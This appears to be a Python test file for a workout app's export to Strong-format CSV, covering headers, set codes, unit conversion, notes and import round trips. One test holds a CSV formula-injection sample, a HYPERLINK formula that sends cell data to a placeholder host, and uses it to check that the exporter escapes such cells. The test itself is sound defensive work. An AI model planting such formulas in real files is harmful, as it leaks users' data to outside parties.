"""Leaving OneMore: Strong's comma CSV that other apps import, and a round trip back in."""

import csv
import io
from dataclasses import replace
from datetime import datetime, timedelta, timezone

from tui.__main__ import main
from tui.core.model import ExerciseLog, Session, SetLog, new_id
from tui.interchange.export_csv import HEADER, strong_csv
from tui.store.repository import Store

from .import_support import (
    AMSTERDAM,
    DATA,
    HEVY_FIXTURE,
    STRONG_FIXTURE,
    import_file,
    stored,
)

START = datetime(2026, 3, 2, 17, 30, tzinfo=timezone.utc)  # 18:30 in Amsterdam


def a_set(kind="working", weight=100.0, reps=5, unit="kg", **more):
    return SetLog(
        id=new_id(), kind=kind, weight=weight, reps=reps, logged_at=START, unit=unit, **more
    )


def a_session(*sets, notes="", exercise_notes=""):
    squat = ExerciseLog(
        id=new_id(),
        name="Squat (Barbell)",
        catalog_id="barbell_back_squat",
        notes=exercise_notes,
        sets=tuple(sets),
    )
    return Session(
        id=new_id(),
        name="Legs",
        started_at=START,
        ended_at=START + timedelta(hours=1, minutes=5),
        notes=notes,
        exercises=(squat,),
    )


def rows_of(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_the_header_row_comes_first_with_nothing_before_it():
    text = strong_csv([a_session(a_set())], "kg", AMSTERDAM)
    assert text.split("\n", 1)[0] == (
        "Date,Workout Name,Duration,Exercise Name,Set Order,Weight,"
        "Reps,Distance,Seconds,Notes,Workout Notes,RPE"
    )
    assert text.split("\n", 1)[0].split(",") == HEADER


def test_sets_are_written_as_strong_writes_them():
    session = a_session(
        a_set("warmup", 60, 8),
        a_set(rir=2),
        a_set(rir=0.5, rest_actual_s=185.5, note="belt"),
        a_set(weight=80, reps=10, note="drop set; back-off"),
        notes="Good day",
    )
    rows = rows_of(strong_csv([session], "kg", AMSTERDAM))
    assert [r["Set Order"] for r in rows] == ["W", "1", "Rest Timer", "2", "D"]
    assert rows[0]["Date"] == "2026-03-02 18:30:00" and rows[0]["Duration"] == "1h 5m"
    assert [r["RPE"] for r in rows] == ["", "8", "", "9.5", ""]
    assert rows[2]["Seconds"] == "185.5" and rows[2]["Exercise Name"] == "Squat (Barbell)"
    assert [r["Notes"] for r in rows] == ["", "", "", "belt", "back-off"]
    assert {r["Workout Notes"] for r in rows} == {"Good day"}


def test_weights_are_converted_to_the_unit_asked_for():
    session = a_session(a_set(weight=100), a_set(weight=225, unit="lb"))
    in_lb = rows_of(strong_csv([session], "lb", AMSTERDAM))
    in_kg = rows_of(strong_csv([session], "kg", AMSTERDAM))
    assert [r["Weight"] for r in in_lb] == ["220.46", "225"]
    assert [r["Weight"] for r in in_kg] == ["100", "102.06"]


def test_exercise_notes_lead_the_notes_of_the_first_set():
    session = a_session(a_set(note="easy"), a_set(), exercise_notes="Low bar")
    assert [r["Notes"] for r in rows_of(strong_csv([session], "kg", AMSTERDAM))] == [
        "Low bar | easy",
        "",
    ]


def test_round_trip_of_a_strong_export_gives_the_same_sessions_and_sets(tmp_path):
    import_file(tmp_path / "first", STRONG_FIXTURE)
    exported = tmp_path / "onemore.csv"
    exported.write_text(strong_csv(stored(tmp_path / "first"), "kg", AMSTERDAM))
    report = import_file(tmp_path / "second", exported)
    assert not report.skipped
    first = [s.to_dict() for s in stored(tmp_path / "first")]
    second = [s.to_dict() for s in stored(tmp_path / "second")]
    assert second == first  # ids too: same app, start and name give the same ids


def essentials(session):
    """What a lifter sees of a session, without ids (another app's file gives new ids)."""
    return (
        session.name,
        session.started_at,
        session.ended_at,
        session.notes,
        [
            (
                e.name,
                [
                    (s.kind, s.weight, s.unit, s.reps, s.rir, s.rest_actual_s, s.note)
                    for s in e.sets
                ],
            )
            for e in session.exercises
        ],
    )


def notes_in_first_set(session):
    """The session as Strong's CSV can carry it: exercise notes lead the first set's note."""
    exercises = []
    for exercise in session.exercises:
        first, *others = exercise.sets
        note = " | ".join(n for n in (exercise.notes, first.note) if n)
        exercises.append(replace(exercise, notes="", sets=(replace(first, note=note), *others)))
    return replace(session, exercises=tuple(exercises))


def test_round_trip_of_a_hevy_export_through_strong_csv(tmp_path):
    import_file(tmp_path / "first", HEVY_FIXTURE, app="hevy")
    first = stored(tmp_path / "first")
    exported = tmp_path / "onemore.csv"
    exported.write_text(strong_csv(first, "kg", AMSTERDAM))
    report = import_file(tmp_path / "second", exported)
    assert report.sessions_new == 335 and not report.skipped
    second = stored(tmp_path / "second")
    assert sorted(essentials(notes_in_first_set(s)) for s in first) == sorted(
        essentials(s) for s in second
    )


def test_a_pounds_session_round_trips_in_pounds(tmp_path):
    import_file(tmp_path / "first", DATA / "strong_quoted_lbs.csv")
    exported = tmp_path / "onemore.csv"
    exported.write_text(strong_csv(stored(tmp_path / "first"), "lb", AMSTERDAM))
    import_file(tmp_path / "second", exported, unit="lb")
    assert [essentials(s) for s in stored(tmp_path / "second")] == [
        essentials(s) for s in stored(tmp_path / "first")
    ]


def test_export_command_writes_csv_to_a_file(data_dir, tmp_path, capsys):
    import_file(data_dir, STRONG_FIXTURE)
    target = tmp_path / "out.csv"
    code = main(
        [
            "--data-dir",
            str(data_dir),
            "export",
            "--format",
            "csv",
            "--unit",
            "lb",
            "--tz",
            "Europe/Amsterdam",
            "-o",
            str(target),
        ]
    )
    assert code == 0
    assert "Exported 10 sessions" in capsys.readouterr().err
    rows = rows_of(target.read_text())
    assert rows[0]["Date"] == "2025-06-03 20:23:00" and rows[0]["Weight"] == "77.16"  # 35 kg


def test_export_csv_leaves_out_the_session_in_progress_and_says_so(data_dir, capsys):
    import_file(data_dir, DATA / "strong_no_notes.csv")
    with Store(data_dir) as store:
        store.save_session(Session(id=new_id(), name="Now", started_at=START))
    assert main(["--data-dir", str(data_dir), "export", "--format", "csv"]) == 0
    out, err = capsys.readouterr()
    assert "session in progress is not in the CSV" in err
    assert {r["Workout Name"] for r in rows_of(out)} == {"Quick"}


def test_export_with_an_unknown_zone_is_one_line(data_dir, capsys):
    code = main(["--data-dir", str(data_dir), "export", "--format", "csv", "--tz", "Mars/Base"])
    assert code == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Mars/Base" in err


def test_sessions_logged_here_and_imported_back_from_csv_are_already_here(data_dir, tmp_path):
    logged = a_session(a_set("warmup", 60, 8), a_set(rir=2), a_set(rir=1, rest_actual_s=180))
    with Store(data_dir) as store:
        store.add_finished([logged])
    exported = tmp_path / "onemore.csv"
    exported.write_text(strong_csv(stored(data_dir), "kg", AMSTERDAM))
    again = import_file(data_dir, exported)
    assert (again.sessions_new, again.sessions_present) == (0, 1)
    assert [s.id for s in stored(data_dir)] == [logged.id]


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text_and_read_back(tmp_path):
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    squat = replace(a_session(a_set(), notes="+1 rep next time").exercises[0], name="@SUM(1+1)")
    session = replace(a_session(a_set(), notes="-2 kg, felt heavy"), name=evil, exercises=(squat,))
    text = strong_csv([session], "kg", timezone.utc)
    row = rows_of(text)[0]
    assert row["Workout Name"] == "'" + evil
    assert row["Exercise Name"] == "'@SUM(1+1)"
    assert row["Workout Notes"] == "'-2 kg, felt heavy"
    assert row["Weight"] == "100"  # numbers stay numbers
    path = tmp_path / "out.csv"
    path.write_text(text)
    data = tmp_path / "data"
    import_file(data, path)
    (back,) = stored(data)
    assert (back.name, back.exercises[0].name, back.notes) == (
        evil,
        "@SUM(1+1)",
        "-2 kg, felt heavy",
    )
